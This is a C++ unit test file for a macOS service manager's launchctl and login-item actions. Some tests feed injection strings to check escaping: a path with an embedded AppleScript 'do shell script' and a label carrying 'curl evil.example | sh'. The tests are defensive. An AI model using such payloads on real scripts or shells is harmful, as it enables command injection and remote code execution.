#include "actions/ServiceActionManager.h"

#include "ActionTestSupport.h"
#include "actions/AppleScript.h"
#include "platform/Log.h"
#include "text/Text.h"

#include <csignal>
#include <cstdint>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <map>
#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>

extern char** environ;

namespace daemonary {
namespace {

using test::readLines;
using test::shellQuoted;
using test::TemporaryFolder;
using test::writeFile;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

class RecordingWorkspace : public Workspace {
public:
    void selectFilesInFileManager(const std::vector<std::string>& paths) override {
        selections.push_back(paths);
    }
    std::optional<WorkspaceError> moveToTrash(const std::string& path) override {
        trashed.push_back(path);
        return trashError;
    }
    std::optional<WorkspaceError> unregisterOwnLoginItem() override {
        ++unregisterCalls;
        return unregisterError;
    }
    std::optional<std::string> ownBundlePath() const override { return bundlePath; }

    std::vector<std::vector<std::string>> selections;
    std::vector<std::string> trashed;
    int unregisterCalls = 0;
    std::optional<WorkspaceError> trashError;
    std::optional<WorkspaceError> unregisterError;
    std::optional<std::string> bundlePath;
};

// A child of the test itself, the only kind of process these tests signal.
class SleepingChild {
public:
    SleepingChild() {
        posix_spawnattr_t attributes;
        posix_spawnattr_init(&attributes);
        sigset_t defaults;
        sigemptyset(&defaults);
        sigaddset(&defaults, SIGTERM);
        posix_spawnattr_setsigdefault(&attributes, &defaults);
        posix_spawnattr_setflags(&attributes, POSIX_SPAWN_SETSIGDEF);
        char sleepPath[] = "/bin/sleep";
        char duration[] = "600";
        char* arguments[] = {sleepPath, duration, nullptr};
        if (::posix_spawn(&m_pid, sleepPath, nullptr, &attributes, arguments, environ) != 0) {
            m_pid = -1;
        }
        posix_spawnattr_destroy(&attributes);
    }
    ~SleepingChild() {
        if (m_pid > 0) {
            terminatingSignal();
        }
    }
    SleepingChild(const SleepingChild&) = delete;
    SleepingChild& operator=(const SleepingChild&) = delete;

    std::int32_t pid() const { return m_pid; }

    // Kills the child for certain and reports the signal it died of. A signal
    // already sent decides the outcome: a later SIGKILL is discarded by the
    // kernel once the process is exiting.
    int terminatingSignal() {
        ::kill(m_pid, SIGKILL);
        int status = 0;
        while (::waitpid(m_pid, &status, 0) < 0 && errno == EINTR) {
        }
        m_pid = -1;
        return WIFSIGNALED(status) ? WTERMSIG(status) : 0;
    }

private:
    pid_t m_pid = -1;
};

class ServiceActionManagerTest : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_FALSE(root.path().empty());
        Log::setSink([this](std::string_view line) { logLines.emplace_back(line); });
        writeFile(definition, "<plist/>");
    }
    void TearDown() override { Log::setSink({}); }

    void installLaunchctl(const std::map<std::string, test::FakeFailure>& failures = {},
                          const std::string& jobTable = {}) {
        test::installRecordingLaunchctl(root / "bin/launchctl", callLog, failures,
                                        {{"list", "PID\tStatus\tLabel\n" + jobTable}});
    }
    // One `launchctl list` line.
    static std::string job(const std::string& pid, const std::string& label) {
        return pid + "\t0\t" + label + "\n";
    }
    // osascript that records its arguments, one per line, and a separator.
    void installOsascript() {
        writeFile(root / "usr/bin/osascript",
                  "#!/bin/sh\nfor argument in \"$@\"; do printf '%s\\n' \"$argument\" >> " +
                      shellQuoted(scriptLog) + "; done\necho --- >> " + shellQuoted(scriptLog) +
                      "\n",
                  true);
    }

    std::vector<std::string> launchctlCalls() const { return readLines(callLog); }
    std::vector<std::string> osascriptCalls() const { return readLines(scriptLog); }

    LaunchItem agent(std::optional<std::int32_t> pid = std::nullopt,
                     ServiceStatus status = ServiceStatus::inactive) const {
        LaunchItem item;
        item.label = "com.example.agent";
        item.path = definition;
        item.pid = pid;
        item.status = status;
        item.scope = LaunchScope::user;
        item.type = ServiceType::launchAgent;
        return item;
    }

    TemporaryFolder root;
    const std::string definition = root / "Users/test/Library/LaunchAgents/com.example.agent.plist";
    const std::string callLog = root / "launchctl-calls";
    const std::string scriptLog = root / "osascript-calls";
    const std::string domain = "gui/" + std::to_string(::getuid());
    RecordingWorkspace workspace;
    ServiceActionManager manager{workspace, HostLayout(root.path(), root / "Users/test")};
    std::vector<std::string> logLines;
    int refreshes = 0;
    std::function<void()> refresh = [this] { ++refreshes; };
};

TEST(ServiceActionErrorTest, TextualFormsForLogLines) {
    EXPECT_EQ(ServiceActionError::missingPath().description(), "missingPath");
    EXPECT_EQ(ServiceActionError::commandFailed("Boot-out failed: 5").description(),
              "commandFailed(\"Boot-out failed: 5\")");
    EXPECT_EQ(ServiceActionError::commandFailed("").description(), "commandFailed(\"\")");
    EXPECT_EQ((ActionError{LaunchError{2, "No such file or directory"}}.text()),
              "No such file or directory");
    EXPECT_EQ(ActionError{ServiceActionError::missingPath()}.text(), "missingPath");
}

TEST(AppleScriptTest, EscapesOnlyWhatCouldEndTheLiteral) {
    EXPECT_EQ(appleScriptStringLiteral("/Applications/Mail.app"), "\"/Applications/Mail.app\"");
    EXPECT_EQ(appleScriptStringLiteral("a\\b\"c"), "\"a\\\\b\\\"c\"");
    EXPECT_EQ(deleteLoginItemScript("/Applications/x\" & (do shell script \"touch /tmp/pwned\") "
                                    "& \".app"),
              "tell application \"System Events\" to delete (every login item whose path is "
              "\"/Applications/x\\\" & (do shell script \\\"touch /tmp/pwned\\\") & \\\".app\")");
}

TEST_F(ServiceActionManagerTest, IdleJobsAreBootstrappedThenKickstarted) {
    installLaunchctl();
    for (const ServiceStatus status :
         {ServiceStatus::onDemand, ServiceStatus::inactive, ServiceStatus::unknown}) {
        std::filesystem::remove(callLog);
        EXPECT_EQ(manager.toggleService(agent(std::nullopt, status)), std::nullopt);
        EXPECT_THAT(launchctlCalls(), ElementsAre("bootstrap " + domain + " " + definition,
                                                  "kickstart -k " + domain + "/com.example.agent"));
    }
    EXPECT_THAT(logLines, IsEmpty());
}

TEST_F(ServiceActionManagerTest, ActiveJobWithoutPidIsBootedOutWithoutSignal) {
    installLaunchctl({{"bootout", {3, "Boot-out failed: 3: No such process\n"}}});
    const ActionResult result = manager.toggleService(agent(std::nullopt, ServiceStatus::active));
    // The table is read again and gives the label no pid: nothing to signal.
    EXPECT_THAT(launchctlCalls(), ElementsAre("bootout " + domain + " " + definition, "list"));
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(*result->serviceActionError(),
              ServiceActionError::commandFailed("Boot-out failed: 3: No such process"));
    EXPECT_THAT(logLines,
                ElementsAre("launchctl command failed: bootout " + domain + " " + definition +
                                " -> Boot-out failed: 3: No such process",
                            "launchctl bootout failed: commandFailed(\"Boot-out failed: 3: No "
                            "such process\")"));
}

TEST_F(ServiceActionManagerTest, FailedBootstrapStillKickstarts) {
    installLaunchctl({{"bootstrap", {5, "Bootstrap failed: 5: Input/output error\n"}}});
    EXPECT_EQ(manager.startService(agent()), std::nullopt);
    EXPECT_THAT(launchctlCalls(), ElementsAre("bootstrap " + domain + " " + definition,
                                              "kickstart -k " + domain + "/com.example.agent"));
    EXPECT_THAT(logLines,
                ElementsAre("launchctl command failed: bootstrap " + domain + " " + definition +
                                " -> Bootstrap failed: 5: Input/output error",
                            "Bootstrap failed (might be already loaded), trying kickstart... "
                            "Error: commandFailed(\"Bootstrap failed: 5: Input/output error\")"));
}

TEST_F(ServiceActionManagerTest, FailedKickstartIsTheResult) {
    const std::string refusal = "Could not kickstart service \"com.example.agent\": 1: "
                                "Operation not permitted";
    installLaunchctl(
        {{"bootstrap", {5, "already loaded"}}, {"kickstart", {1, "  " + refusal + "\n\n"}}});
    const ActionResult result = manager.startService(agent());
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(*result->serviceActionError(), ServiceActionError::commandFailed(refusal));
    EXPECT_EQ(logLines.back(), "launchctl command failed: kickstart -k " + domain +
                                   "/com.example.agent -> " + refusal);
}

TEST_F(ServiceActionManagerTest, AJobThatNeverLoadedFailsWithTheBootstrapsReason) {
    // What a disabled agent gets from launchctl: the kickstart's "no such
    // service" hides why, the bootstrap's last line says it.
    installLaunchctl({{"bootstrap",
                       {119, definition + ": Service is disabled\nBootstrap failed: 119: Service "
                                          "is disabled\nTry re-running the command as root for "
                                          "richer errors.\n"}},
                      {"kickstart",
                       {113, "Could not find service \"com.example.agent\" in domain for "
                             "user gui: 0\n"}}});
    const ActionResult result = manager.startService(agent());
    ASSERT_TRUE(result);
    EXPECT_EQ(result->reason(), "Bootstrap failed: 119: Service is disabled");
}

TEST_F(ServiceActionManagerTest, StartWithoutDefinitionRunsNothing) {
    installLaunchctl();
    LaunchItem withoutPath = agent();
    withoutPath.path.reset();
    LaunchItem vanished = agent();
    vanished.path = root / "Users/test/Library/LaunchAgents/gone.plist";
    for (const LaunchItem& item : {withoutPath, vanished}) {
        const ActionResult result = manager.toggleService(item);
        ASSERT_TRUE(result && result->serviceActionError());
        EXPECT_EQ(*result->serviceActionError(), ServiceActionError::missingPath());
    }
    EXPECT_THAT(launchctlCalls(), IsEmpty());
    EXPECT_THAT(logLines, IsEmpty());
}

TEST_F(ServiceActionManagerTest, CriticalProcessesAreRefusedWithoutRunningAnything) {
    installLaunchctl();
    for (const std::int32_t pid : {1, 0, -1, -42, INT32_MIN}) {
        const ActionResult result = manager.stopService(agent(pid, ServiceStatus::active));
        ASSERT_TRUE(result && result->serviceActionError());
        EXPECT_EQ(
            *result->serviceActionError(),
            ServiceActionError::commandFailed("Refusing to stop critical system process (PID " +
                                              std::to_string(pid) + ")"));
    }
    EXPECT_THAT(launchctlCalls(), IsEmpty());
    EXPECT_THAT(logLines, IsEmpty());

    // 2 is the first ordinary process identifier.
    EXPECT_EQ(manager.stopService(agent(2, ServiceStatus::active)), std::nullopt);
    EXPECT_THAT(launchctlCalls(), ElementsAre("bootout " + domain + " " + definition));
}

TEST_F(ServiceActionManagerTest, ItemWithoutPathIsNeverSignalled) {
    installLaunchctl({{"bootout", {5, "failed"}}});
    SleepingChild child;
    ASSERT_GT(child.pid(), 0);
    LaunchItem item = agent(child.pid(), ServiceStatus::active);
    item.path.reset();
    const ActionResult result = manager.toggleService(item);
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(*result->serviceActionError(), ServiceActionError::missingPath());
    EXPECT_THAT(launchctlCalls(), IsEmpty());
    EXPECT_EQ(child.terminatingSignal(), SIGKILL);
}

TEST_F(ServiceActionManagerTest, FailedBootoutFallsBackToSigterm) {
    SleepingChild child;
    const std::int32_t pid = child.pid();
    ASSERT_GT(pid, 0);
    installLaunchctl({{"bootout", {5, "Boot-out failed: 5: Input/output error"}}},
                     job(std::to_string(pid), "com.example.agent"));
    EXPECT_EQ(manager.toggleService(agent(pid, ServiceStatus::active)), std::nullopt);
    EXPECT_EQ(child.terminatingSignal(), SIGTERM);
    EXPECT_THAT(launchctlCalls(), ElementsAre("bootout " + domain + " " + definition, "list"));
    ASSERT_EQ(logLines.size(), 3u);
    EXPECT_EQ(logLines[1], "launchctl bootout failed: commandFailed(\"Boot-out failed: 5: "
                           "Input/output error\")");
    EXPECT_EQ(logLines[2], "Attempting to kill PID " + std::to_string(pid) + "...");
}

TEST_F(ServiceActionManagerTest, OnlyThePidLaunchdGivesTheLabelNowIsSignalled) {
    // The record's pid is a process that merely carries the job's name (or
    // launchd's pid from an earlier load); launchd now gives the label another
    // process, or none.
    SleepingChild decoy;
    SleepingChild launched;
    ASSERT_GT(decoy.pid(), 1);
    ASSERT_GT(launched.pid(), 1);
    LaunchItem guessed = agent(decoy.pid(), ServiceStatus::unknown);
    guessed.pidSource = PidSource::processName;
    const std::string failed = "Boot-out failed: 5: Input/output error";

    installLaunchctl({{"bootout", {5, failed}}},
                     job("-", "com.example.agent") + job(std::to_string(decoy.pid()), "other"));
    for (const LaunchItem& item : {guessed, agent(decoy.pid(), ServiceStatus::active)}) {
        const ActionResult result = manager.stopService(item);
        ASSERT_TRUE(result);
        EXPECT_EQ(result->reason(), failed);
    }

    installLaunchctl({{"bootout", {5, failed}}},
                     job(std::to_string(launched.pid()), "com.example.agent.x") +
                         job(std::to_string(launched.pid()), "com.example.agent"));
    EXPECT_EQ(manager.stopService(guessed), std::nullopt);
    EXPECT_EQ(launched.terminatingSignal(), SIGTERM);
    EXPECT_EQ(decoy.terminatingSignal(), SIGKILL);

    // launchd's own pid is refused even when the table says so.
    installLaunchctl({{"bootout", {5, failed}}}, job("1", "com.example.agent"));
    const ActionResult critical = manager.stopService(agent(std::nullopt, ServiceStatus::active));
    ASSERT_TRUE(critical);
    EXPECT_EQ(critical->reason(), "Refusing to stop critical system process (PID 1)");
}

TEST_F(ServiceActionManagerTest, TwoLineToolErrorsStayOneLogLineEach) {
    // launchctl often adds a hint on a second line; CRLF from other tools.
    const std::string hint = "Try re-running the command as root for richer errors.";
    installLaunchctl(
        {{"bootstrap", {5, "Bootstrap failed: 5: Input/output error\n" + hint + "\n"}},
         {"bootout", {5, "Boot-out failed: 5: Input/output error\r\n" + hint + "\r\n"}}});
    EXPECT_EQ(manager.startService(agent()), std::nullopt);
    const ActionResult stopped = manager.toggleService(agent(std::nullopt, ServiceStatus::active));
    ASSERT_TRUE(stopped && stopped->serviceActionError());
    // The error is launchctl's reason alone; the log keeps all it said.
    EXPECT_EQ(stopped->reason(), "Boot-out failed: 5: Input/output error");
    EXPECT_THAT(
        logLines,
        ElementsAre("launchctl command failed: bootstrap " + domain + " " + definition +
                        " -> Bootstrap failed: 5: Input/output error\\n" + hint,
                    "Bootstrap failed (might be already loaded), trying kickstart... Error: "
                    "commandFailed(\"Bootstrap failed: 5: Input/output error\")",
                    "launchctl command failed: bootout " + domain + " " + definition +
                        " -> Boot-out failed: 5: Input/output error\\r\\n" + hint,
                    "launchctl bootout failed: commandFailed(\"Boot-out failed: 5: Input/output "
                    "error\")"));
}

TEST_F(ServiceActionManagerTest, SuccessfulBootoutSendsNoSignal) {
    installLaunchctl();
    SleepingChild child;
    ASSERT_GT(child.pid(), 0);
    EXPECT_EQ(manager.stopService(agent(child.pid(), ServiceStatus::active)), std::nullopt);
    EXPECT_EQ(child.terminatingSignal(), SIGKILL);
    EXPECT_THAT(logLines, IsEmpty());
}

TEST_F(ServiceActionManagerTest, UndeliverableSignalReturnsTheBootoutError) {
    // Above any possible pid_max, so the signal reaches no process at all.
    const std::int32_t nobody = INT32_MAX;
    installLaunchctl({{"bootout", {5, "failed"}}},
                     job(std::to_string(nobody), "com.example.agent"));
    const ActionResult result = manager.stopService(agent(nobody, ServiceStatus::active));
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(*result->serviceActionError(), ServiceActionError::commandFailed("failed"));
    EXPECT_EQ(logLines.back(), "Attempting to kill PID 2147483647...");
}

TEST_F(ServiceActionManagerTest, MissingLaunchctlPassesTheLaunchErrorOn) {
    const ActionResult result = manager.toggleService(agent());
    ASSERT_TRUE(result && result->launchError());
    EXPECT_EQ(result->launchError()->code, ENOENT);
    // The bootstrap failure is logged with it; the runner itself logs nothing.
    EXPECT_THAT(logLines, ElementsAre("Bootstrap failed (might be already loaded), trying "
                                      "kickstart... Error: " +
                                      launchErrorText(*result->launchError())));
}

TEST_F(ServiceActionManagerTest, ErrorTextOfSilentOrUndecodableFailures) {
    installLaunchctl({{"bootout", {1, ""}}, {"kickstart", {1, "bad \xff\xfe bytes"}}});
    ActionResult result = manager.runLaunchctl({"bootout", "x"});
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(*result->serviceActionError(),
              ServiceActionError::commandFailed("launchctl exited with status 1"));
    EXPECT_EQ(logLines.back(), "launchctl command failed: bootout x -> ");

    result = manager.runLaunchctl({"kickstart", "-k", "y"});
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(*result->serviceActionError(), ServiceActionError::commandFailed("Unknown Error"));
    EXPECT_EQ(logLines.back(), "launchctl command failed: kickstart -k y -> Unknown Error");
}

TEST_F(ServiceActionManagerTest, RevealSelectsDefinitionThenExecutable) {
    LaunchItem item = agent();
    item.executablePath = "/usr/local/bin/agent";
    manager.revealService(item);
    item.path.reset();
    manager.revealService(item);
    item.executablePath.reset();
    manager.revealService(item);
    // One file, so one folder opens: the definition while there is one. The
    // program is a Mac path: revealed on the host, the definition as found.
    const std::string program = root / "usr/local/bin/agent";
    EXPECT_THAT(workspace.selections, ElementsAre(ElementsAre(definition), ElementsAre(program)));
}

TEST_F(ServiceActionManagerTest, RemovingADefinitionMovesItToTheTrash) {
    installOsascript();
    installLaunchctl();
    manager.removeService(agent(), refresh);
    EXPECT_THAT(workspace.trashed, ElementsAre(definition));
    EXPECT_EQ(refreshes, 1);

    workspace.trashError = WorkspaceError{"“agent.plist” couldn’t be moved to the Trash."};
    const ActionResult failed = manager.removeService(agent(), refresh);
    ASSERT_TRUE(failed);
    EXPECT_EQ(failed->reason(), "“agent.plist” couldn’t be moved to the Trash.");
    EXPECT_EQ(refreshes, 1);
    EXPECT_THAT(logLines,
                ElementsAre("Failed to delete: “agent.plist” couldn’t be moved to the Trash."));

    LaunchItem withoutPath = agent();
    withoutPath.path.reset();
    manager.removeService(withoutPath, refresh);
    EXPECT_EQ(workspace.trashed.size(), 2u);
    EXPECT_EQ(refreshes, 1);
    EXPECT_THAT(osascriptCalls(), IsEmpty());
}

TEST_F(ServiceActionManagerTest, RemovalUnloadsWhatLaunchdListsAndSignalsNothing) {
    SleepingChild child;
    ASSERT_GT(child.pid(), 1);
    const std::string pid = std::to_string(child.pid());
    const std::string bootout = "bootout " + domain + " " + definition;
    const std::vector<std::string> listed = {"list"};
    const std::vector<std::string> bootedOut = {"list", bootout};
    // Which subcommand fails, launchd's table, the calls, and the error
    // (none: moved to the Trash).
    struct Case {
        std::string fails, table;
        std::vector<std::string> calls;
        std::string error;
    };
    const Case cases[] = {
        {"", job(pid, "com.example.agent"), bootedOut, ""},
        // A timer job between runs is as loaded as a running one.
        {"", job("-", "com.example.agent"), bootedOut, ""},
        // launchd has nothing under the label: the record's pid (a process
        // of the name) is nobody's to stop.
        {"", job(pid, "com.example.agent2"), listed, ""},
        {"bootout",
         job(pid, "com.example.agent"),
         {"list", bootout, "list"},
         "Not removed: it still runs as PID " + pid + " (no)"},
        {"", job("1", "com.example.agent"), listed,
         "Not removed: Refusing to stop critical system process (PID 1)"},
        {"list", "", listed, "Not removed: launchd's job table could not be read (no)"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.error + c.table);
        std::filesystem::remove(callLog);
        workspace.trashed.clear();
        std::map<std::string, test::FakeFailure> failures;
        if (!c.fails.empty()) {
            failures[c.fails] = {5, "no\n"};
        }
        installLaunchctl(failures, c.table);
        refreshes = 0;
        LaunchItem item = agent(child.pid(), ServiceStatus::unknown);
        item.pidSource = PidSource::processName;
        const ActionResult result = manager.removeService(item, refresh);
        EXPECT_EQ(launchctlCalls(), c.calls);
        EXPECT_EQ(workspace.trashed.size(), c.error.empty() ? 1u : 0u);
        EXPECT_EQ(result ? result->reason() : "", c.error);
        EXPECT_EQ(refreshes, c.error.empty() ? 1 : 0);
    }
    EXPECT_EQ(child.terminatingSignal(), SIGKILL);
}

TEST_F(ServiceActionManagerTest, ApplicationBundleIsRemovedAsLoginItemNotTrashed) {
    installOsascript();
    LaunchItem item = agent();
    item.path = "/Applications/Tool.app";
    manager.removeService(item, refresh);
    EXPECT_THAT(workspace.trashed, IsEmpty());
    EXPECT_THAT(osascriptCalls(),
                ElementsAre("-e", deleteLoginItemScript("/Applications/Tool.app"), "---"));
    EXPECT_EQ(refreshes, 1);
}

TEST_F(ServiceActionManagerTest, ChosenLoginItemIsDeletedByItsPath) {
    installOsascript();
    workspace.bundlePath = "/Applications/Daemonary.app";
    LaunchItem item = agent();
    item.type = ServiceType::loginItem;
    item.path = "/Applications/Other.app";
    manager.removeService(item, refresh);
    // This application's own registration is left alone.
    EXPECT_EQ(workspace.unregisterCalls, 0);
    EXPECT_THAT(osascriptCalls(),
                ElementsAre("-e", deleteLoginItemScript("/Applications/Other.app"), "---"));
    EXPECT_EQ(refreshes, 1);

    item.path.reset();
    manager.removeService(item, refresh);
    EXPECT_EQ(workspace.unregisterCalls, 0);
    EXPECT_EQ(refreshes, 1);
    EXPECT_THAT(logLines, ElementsAre("Cannot remove login item without a path: "
                                      "com.example.agent"));
}

TEST_F(ServiceActionManagerTest, OwnLoginItemGoesThroughTheLoginItemService) {
    installOsascript();
    workspace.bundlePath = "/Applications/Daemonary.app/";
    LaunchItem item = agent();
    item.type = ServiceType::loginItem;
    item.path = "/Applications/Daemonary.app";
    manager.removeService(item, refresh);
    EXPECT_EQ(workspace.unregisterCalls, 1);
    EXPECT_THAT(osascriptCalls(), IsEmpty());
    EXPECT_EQ(refreshes, 1);

    workspace.unregisterError = WorkspaceError{"Operation not permitted"};
    manager.removeService(item, refresh);
    EXPECT_EQ(workspace.unregisterCalls, 2);
    EXPECT_THAT(logLines, ElementsAre("Failed to unregister login item via SMAppService: "
                                      "Operation not permitted"));
    EXPECT_THAT(osascriptCalls(),
                ElementsAre("-e", deleteLoginItemScript("/Applications/Daemonary.app"), "---"));
    EXPECT_EQ(refreshes, 2);
}

TEST_F(ServiceActionManagerTest, HostilePathReachesOsascriptAsOneLiteral) {
    installOsascript();
    const std::string hostile =
        "/Applications/x\" & (do shell script \"touch /tmp/pwned\") & \".app";
    manager.removeLoginItem(hostile, refresh);
    const std::vector<std::string> calls = osascriptCalls();
    ASSERT_EQ(calls.size(), 3u);
    EXPECT_EQ(calls[0], "-e");
    EXPECT_EQ(calls[1], "tell application \"System Events\" to delete (every login item whose "
                        "path is \"/Applications/x\\\" & (do shell script \\\"touch "
                        "/tmp/pwned\\\") & \\\".app\")");
    EXPECT_EQ(refreshes, 1);
}

TEST_F(ServiceActionManagerTest, LoginItemRemovalRefreshesEvenWhenOsascriptIsMissing) {
    manager.removeLoginItem("/Applications/Tool.app", refresh);
    EXPECT_EQ(refreshes, 1);
    EXPECT_THAT(logLines, IsEmpty());
}

} // namespace
} // namespace daemonary

namespace daemonary {
namespace {

TEST_F(ServiceActionManagerTest, DisableAndEnableAddressTheAgentInTheUsersDomain) {
    installLaunchctl();
    // All-users agents run in the user's domain just like the user's own.
    for (const LaunchScope scope : {LaunchScope::user, LaunchScope::system, LaunchScope::macos}) {
        std::filesystem::remove(callLog);
        LaunchItem item = agent(412, ServiceStatus::active);
        item.scope = scope;
        EXPECT_EQ(manager.disableService(item), std::nullopt);
        EXPECT_EQ(manager.enableService(item), std::nullopt);
        // Neither touches the process: no bootout, no kickstart, no signal.
        EXPECT_THAT(launchctlCalls(), ElementsAre("disable " + domain + "/com.example.agent",
                                                  "enable " + domain + "/com.example.agent"));
    }
    EXPECT_THAT(logLines, IsEmpty());
}

TEST(AdministratorCommandTest, TheLabelIsQuotedForTheShell) {
    LaunchItem item;
    item.label = "com.example.x; curl evil.example | sh";
    EXPECT_EQ(ServiceActionManager::administratorCommand(item, false),
              "sudo launchctl disable 'system/com.example.x; curl evil.example | sh'");
    item.label = "it's";
    EXPECT_EQ(ServiceActionManager::administratorCommand(item, true),
              "sudo launchctl enable 'system/it'\\''s'");
}

TEST_F(ServiceActionManagerTest, DisablingAnythingButAnAgentIsRefusedWithoutRunningLaunchctl) {
    installLaunchctl();
    struct Case {
        ServiceType type;
        bool enable;
        std::string refusal;
    };
    const std::vector<Case> cases = {
        {ServiceType::launchDaemon, false,
         "Disabling a daemon needs administrator rights: sudo launchctl disable "
         "system/com.example.agent"},
        {ServiceType::launchDaemon, true,
         "Enabling a daemon needs administrator rights: sudo launchctl enable "
         "system/com.example.agent"},
        {ServiceType::loginItem, false, "Only launch agents can be disabled; this is a Login Item"},
        {ServiceType::launchService, true,
         "Only launch agents can be enabled; this is a Launch Service"},
        {ServiceType::kernelExtension, false,
         "Only launch agents can be disabled; this is a Kernel Extension"},
        {ServiceType::startupItem, false,
         "Only launch agents can be disabled; this is a Startup Item"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.refusal);
        LaunchItem item = agent();
        item.type = c.type;
        EXPECT_EQ(ServiceActionManager::disableRefusal(item, c.enable), c.refusal);
        const ActionResult result =
            c.enable ? manager.enableService(item) : manager.disableService(item);
        ASSERT_TRUE(result && result->serviceActionError());
        EXPECT_EQ(*result->serviceActionError(), ServiceActionError::commandFailed(c.refusal));
    }
    EXPECT_EQ(ServiceActionManager::disableRefusal(agent(), false), std::nullopt);
    EXPECT_THAT(launchctlCalls(), IsEmpty());
}

TEST_F(ServiceActionManagerTest, DisableFailureCarriesLaunchctlsTextOnOneLine) {
    installLaunchctl({{"disable",
                       {1, "Disable failed: 1: Operation not permitted\n"
                           "  (while talking to launchd)\r\n"}}});
    const ActionResult result = manager.disableService(agent());
    ASSERT_TRUE(result && result->serviceActionError());
    EXPECT_EQ(result->reason(), "Disable failed: 1: Operation not permitted");

    std::filesystem::remove(root / "bin/launchctl");
    const ActionResult missing = manager.enableService(agent());
    ASSERT_TRUE(missing && missing->launchError());
}

} // namespace
} // namespace daemonary
